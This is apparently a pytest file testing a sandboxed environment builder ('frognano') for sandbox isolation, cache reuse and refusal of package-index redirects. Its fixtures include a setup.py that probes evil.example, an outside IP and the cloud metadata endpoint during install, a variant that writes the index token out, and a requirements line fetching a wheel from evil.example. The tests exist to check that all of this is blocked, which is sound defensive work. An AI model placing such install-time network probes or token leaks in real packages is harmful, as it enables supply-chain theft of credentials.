"""The environment phase through `frognano solve` and `frognano env build`, against a real
package index (proxpi in front of wheels built and downloaded at test time): a repository with
real dependencies fixed and verified, the cache reused, every redirect refused before anything
runs, a build's own network attempts refused and named, and no network or token anywhere else.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from tests.cli.test_solve import TESTS, git, solve_argv
from tests.cli.test_solve import environment as solve_environment
from tests.fakes.model_server import ScriptedModelServer, Turn
from tests.packageindex import (
    PYTEST_WHEELS,
    WHEEL_CACHE,
    PackageIndex,
    build_wheel,
    download_wheels,
)

BUILD_WHEELS = ("setuptools==75.8.0",)
TOKEN = "fn-index-token-7f3a9c1e5b"
MATHHELP = "def total(xs):\n    return sum(xs)\n"
BUGGY = "from mathhelp import total\n\n\ndef mean(xs):\n    return total(xs) / len(xs)\n"
PYPROJECT = """\
[build-system]
requires = ["setuptools>=64"]
build-backend = "setuptools.build_meta"

[project]
name = "fncalc"
version = "0.1"
dependencies = ["fn-mathhelp==1.0"]

[project.optional-dependencies]
test = ["pytest==8.3.5"]

[tool.setuptools]
py-modules = ["calc"]
"""
# What the agent's sandbox can find of the index and of the token: it prints only markers.
PROBE = textwrap.dedent("""\
    import os, socket, subprocess, sys
    host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    try:
        socket.create_connection((host, port), timeout=3).close()
        print("NET-REACHED")
    except OSError:
        print("NET-BLOCKED")
    seen = any(token in value for value in os.environ.values())
    found = subprocess.run(["grep", "-rlF", token, "/environment", "/workspace", "/home",
                            "/tmp", "/run", "/opt"], capture_output=True, text=True).stdout
    print("TOKEN-SEEN" if seen or found.strip() else "TOKEN-ABSENT", found.strip())
""")


@pytest.fixture(scope="module")
def index(package_index: PackageIndex, tmp_path_factory: pytest.TempPathFactory) -> PackageIndex:
    """The session's index with this module's packages: fn-mathhelp, pytest and setuptools."""
    wheels = tmp_path_factory.mktemp("wheels")
    mathhelp = build_wheel(wheels, "fn-mathhelp", "1.0", modules={"mathhelp.py": MATHHELP})
    package_index.add_wheels(
        [mathhelp, *download_wheels(WHEEL_CACHE, PYTEST_WHEELS),
         *download_wheels(WHEEL_CACHE, BUILD_WHEELS)]
    )  # fmt: skip
    return package_index


def make_repo(root: Path, files: dict[str, str]) -> Path:
    (root / "tests").mkdir(parents=True)
    base = {
        "calc.py": BUGGY,
        "tests/test_calc.py": TESTS,
        "pytest.ini": "[pytest]\naddopts = -p no:cacheprovider\n",
        "pyproject.toml": PYPROJECT,
    }
    for name, text in {**base, **files}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    return root


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "project", {})


def env_for(server: ScriptedModelServer | None, tmp_path: Path, cache: Path) -> dict[str, str]:
    if server is None:
        env = {k: v for k, v in os.environ.items() if not k.startswith("FROGNANO_")}
        env["FROGNANO_POLICY_DIR"] = str(tmp_path / "no-policies")
    else:
        env = solve_environment(server, tmp_path)
    env["FROGNANO_ENVIRONMENT_CACHE"] = str(cache)
    env["FROGNANO_LOG_LEVEL"] = "WARNING"
    return env


def fix_turns(index: PackageIndex) -> list[Turn]:
    probe = f"python - {index.host} {index.port} {TOKEN} <<'EOF'\n{PROBE}EOF"
    return [
        Turn(calls=[("Bash", {"command": probe, "timeout": 60000})]),
        Turn(calls=[("Read", {"file_path": "/workspace/calc.py"})]),
        Turn(calls=[("Edit", {
            "file_path": "/workspace/calc.py",
            "old_string": "    return total(xs) / len(xs)\n",
            "new_string": "    if not xs:\n        raise ValueError('empty')\n"
                          "    return total(xs) / len(xs)\n",
        })]),
        Turn(calls=[("Bash", {"command": "python -m pytest -q", "timeout": 120000})]),
        Turn(content="mean([]) raises ValueError now."),
    ]  # fmt: skip


def solve(  # noqa: PLR0917 - the test's own helper, called positionally throughout
    repo: Path, tmp_path: Path, index: PackageIndex, turns: list[Turn], cache: Path, name: str
) -> tuple[subprocess.CompletedProcess[str], Path, ScriptedModelServer]:
    issue = tmp_path / "ISSUE.md"
    issue.write_text("# mean([]) crashes\n\nmean([]) should raise ValueError.\n")
    out = tmp_path / name
    with ScriptedModelServer(turns) as server:
        env = env_for(server, tmp_path, cache)
        env["FROGNANO_INDEX_TOKEN"] = TOKEN
        done = subprocess.run(
            solve_argv(repo, issue, out, "--index-url", index.url),
            env=env,
            check=False,
            capture_output=True,
            text=True,
            timeout=600,
        )
    return done, out, server


def tool_results(out: Path) -> list[str]:
    """What each tool call of the run returned, in order."""
    lines = (out / "trajectory.jsonl").read_text().splitlines()
    events = [json.loads(line) for line in lines]
    return [str(event["result"]) for event in events if event.get("event") == "tool"]


def report(out: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((out / "report.json").read_text())
    return found


ISOLATED = """\
import os, socket

import pytest


def test_the_index_is_out_of_reach_and_the_token_unknown():
    with pytest.raises(OSError):
        socket.create_connection(("{host}", {port}), timeout=3)
    token = bytes.fromhex("{token_hex}").decode()  # never written out where a grep finds it
    assert not any(token in value for value in os.environ.values())
"""


def test_a_repository_with_real_dependencies_is_fixed_and_verified_then_reused(
    tmp_path: Path, index: PackageIndex
) -> None:
    # The repository's own suite checks, in the baseline and in verification, that its
    # sandbox reaches no index and knows no token: a leak would fail the verdict.
    isolated = ISOLATED.format(host=index.host, port=index.port, token_hex=TOKEN.encode().hex())
    repo = make_repo(tmp_path / "project", {"tests/test_isolated.py": isolated})
    cache = tmp_path / "envcache"
    done, out, _ = solve(repo, tmp_path, index, fix_turns(index), cache, "first")
    assert done.returncode == 0, done.stderr + (out / "report.md").read_text()
    first = report(out)
    env = first["sandbox"]["environment"]
    assert env["cache_hit"] is False
    assert env["commands"] == ["python -m pip install -e '.[test]'"]
    assert first["verification"]["held"] is True
    probed, _, _, tested = tool_results(out)[:4]
    assert probed.split() == ["NET-BLOCKED", "TOKEN-ABSENT"], probed
    assert "3 passed" in tested
    for role in ("baseline", "verification"):
        tests = first["verification"][role]["tests"]
        isolated = "tests/test_isolated.py::test_the_index_is_out_of_reach_and_the_token_unknown"
        assert tests[isolated] == "passed", (role, tests)
    fetched = index.log()
    assert "/index/fn-mathhelp/" in fetched
    assert "/index/pytest/" in fetched

    before = index.log()
    again, out2, _ = solve(repo, tmp_path, index, fix_turns(index), cache, "second")
    assert again.returncode == 0, again.stderr
    second = report(out2)["sandbox"]["environment"]
    assert second["cache_hit"] is True
    assert second["key"] == env["key"]
    assert index.log() == before, "a cache hit asked the index for something"
    # The baseline cache keys on the environment too.
    assert "Environment:" in (out2 / "report.md").read_text()


def test_a_changed_dependency_byte_is_another_environment(
    tmp_path: Path, index: PackageIndex
) -> None:
    cache = tmp_path / "envcache"
    first = make_repo(tmp_path / "one", {})
    second = make_repo(tmp_path / "two", {"pyproject.toml": PYPROJECT + "\n"})
    keys = []
    for repo in (first, second):
        done = subprocess.run(
            [sys.executable, "-m", "frognano", "env", "build", str(repo), "--index-url",
             index.url],
            env=env_for(None, tmp_path, cache),
            capture_output=True,
            text=True,
            timeout=600,
            check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stdout + done.stderr
        assert "built now" in done.stdout
        keys.append(next(line for line in done.stdout.splitlines() if "key:" in line))
    assert keys[0] != keys[1]

    def env(*args: str) -> str:
        shown = subprocess.run(
            [sys.executable, "-m", "frognano", "env", *args],
            env={**env_for(None, tmp_path, cache), "COLUMNS": "200"},
            capture_output=True, text=True, timeout=60, check=True,
        )  # fmt: skip
        return shown.stdout

    listed = env("list")
    assert all(key.split()[-1] in listed for key in keys), listed
    assert "2 environment(s)" in listed
    assert "2 environment(s) deleted." in env("prune", "--max-bytes", "0")
    assert "No environment in" in env("list")


def test_two_concurrent_builds_of_one_key_build_once(
    repo: Path, tmp_path: Path, index: PackageIndex
) -> None:
    cache = tmp_path / "envcache"
    argv = [sys.executable, "-m", "frognano", "env", "build", str(repo), "--index-url", index.url]
    procs = [
        subprocess.Popen(
            argv,
            env=env_for(None, tmp_path, cache),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]
    outputs = [proc.communicate(timeout=600) for proc in procs]
    assert [proc.returncode for proc in procs] == [0, 0], outputs
    said = sorted("built now" if "built now" in out else "hit" for out, _ in outputs)
    assert said == ["built now", "hit"]


REDIRECTS = {
    "requirements.txt": "--extra-index-url http://127.0.0.1:9/simple/\nfn-mathhelp==1.0\n",
    "requirements-dev.txt": "fn-mathhelp @ https://evil.example/fn_mathhelp-1.0-py3-none-any.whl\n",
    "pip.conf": "[global]\nindex-url = http://127.0.0.1:9/simple/\n",
}


@pytest.mark.parametrize("name", sorted(REDIRECTS))
def test_a_redirect_ends_the_run_before_the_agent_with_file_and_line(
    name: str, tmp_path: Path, index: PackageIndex
) -> None:
    repo = make_repo(tmp_path / "project", {name: REDIRECTS[name]})
    done, out, server = solve(repo, tmp_path, index, fix_turns(index), tmp_path / "c", "out")
    assert done.returncode == 1, done.stderr
    error = report(out)["error"]
    assert f"{name}" in error
    assert "approved package index" in error
    assert server.requests == [], "the model was asked although the environment was refused"
    assert not any((tmp_path / "c").glob("*.json")), "something was built"


def test_a_failing_install_names_the_command_and_the_package(
    tmp_path: Path, index: PackageIndex
) -> None:
    broken = PYPROJECT.replace('"fn-mathhelp==1.0"', '"fn-absent-package==9.9"')
    repo = make_repo(tmp_path / "project", {"pyproject.toml": broken})
    done, out, server = solve(repo, tmp_path, index, fix_turns(index), tmp_path / "c", "out")
    assert done.returncode == 1
    error = report(out)["error"]
    assert "python -m pip install -e '.[test]'" in error
    assert "fn-absent-package" in error
    assert server.requests == []


SNEAKY_SETUP = """\
import os, socket, urllib.request
from setuptools import setup

results = []
def attempt(name, action):
    try:
        action()
        results.append(name + " REACHED")
    except Exception as exc:
        results.append(name + " failed: " + type(exc).__name__)

attempt("host-loopback", lambda: socket.create_connection(("127.0.0.1", {port}), 3).close())
attempt("proxy-port", lambda: urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=5))
attempt("via-proxy-other-host", lambda: urllib.request.urlopen("https://evil.example/", timeout=5))
attempt("outside-ip", lambda: socket.create_connection(("1.1.1.1", 80), 3).close())
attempt("a-name", lambda: socket.getaddrinfo("pypi.org", 443))
attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 3).close())
with open("/environment/probe.txt", "w") as handle:
    handle.write("\\n".join(results) + "\\n")
{leak}
setup()
"""


def _listener() -> tuple[Any, int]:
    import socket

    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    return server, server.getsockname()[1]


def test_the_build_reaches_the_index_and_nothing_else_and_says_what_it_tried(
    tmp_path: Path, index: PackageIndex
) -> None:
    server, port = _listener()
    try:
        setup = SNEAKY_SETUP.format(port=port, leak="")
        repo = make_repo(tmp_path / "project", {"setup.py": setup})
        cache = tmp_path / "envcache"
        done = subprocess.run(
            [sys.executable, "-m", "frognano", "env", "build", str(repo), "--index-url",
             index.url],
            env=env_for(None, tmp_path, cache),
            capture_output=True, text=True, timeout=600, check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stdout + done.stderr
        with pytest.raises(BlockingIOError):
            server.accept()  # nothing from the sandbox ever reached the host's loopback
    finally:
        server.close()
    probes = next(cache.glob("*/probe.txt")).read_text().splitlines()
    assert all("failed" in line for line in probes), probes
    assert len(probes) == 6
    assert f"refused: the build tried to reach 127.0.0.1:{port} (GET)" in done.stdout
    assert "refused: the build tried to reach evil.example:443 (CONNECT)" in done.stdout


def test_a_build_that_copies_the_index_token_into_the_environment_is_refused(
    tmp_path: Path, index: PackageIndex
) -> None:
    leak = "open('/environment/leak.txt', 'w').write(os.environ.get('PIP_INDEX_URL', 'none'))"
    repo = make_repo(tmp_path / "project", {"setup.py": SNEAKY_SETUP.format(port=9, leak=leak)})
    cache = tmp_path / "envcache"
    env = env_for(None, tmp_path, cache)
    env["FROGNANO_INDEX_TOKEN"] = TOKEN
    done = subprocess.run(
        [sys.executable, "-m", "frognano", "env", "build", str(repo), "--index-url", index.url],
        env=env, capture_output=True, text=True, timeout=600, check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stdout + done.stderr
    assert "the index token was written into the environment (leak.txt)" in done.stderr
    assert not list(cache.glob("*.json")), "the leaking environment was kept"
    assert TOKEN not in done.stdout + done.stderr


def test_an_index_that_does_not_answer_is_named_for_the_admins(tmp_path: Path) -> None:
    server, port = _listener()
    server.close()  # a port where nothing listens: the admins' URL is wrong, or the index down
    repo = make_repo(tmp_path / "project", {})
    url = f"http://127.0.0.1:{port}/simple/"
    done = subprocess.run(
        [sys.executable, "-m", "frognano", "env", "build", str(repo), "--index-url", url],
        env=env_for(None, tmp_path, tmp_path / "envcache"),
        capture_output=True, text=True, timeout=600, check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stdout + done.stderr
    said = " ".join(done.stderr.split())
    assert f"The approved host 127.0.0.1:{port} did not answer (connection refused)" in said
    assert "check environment.index_url" in said
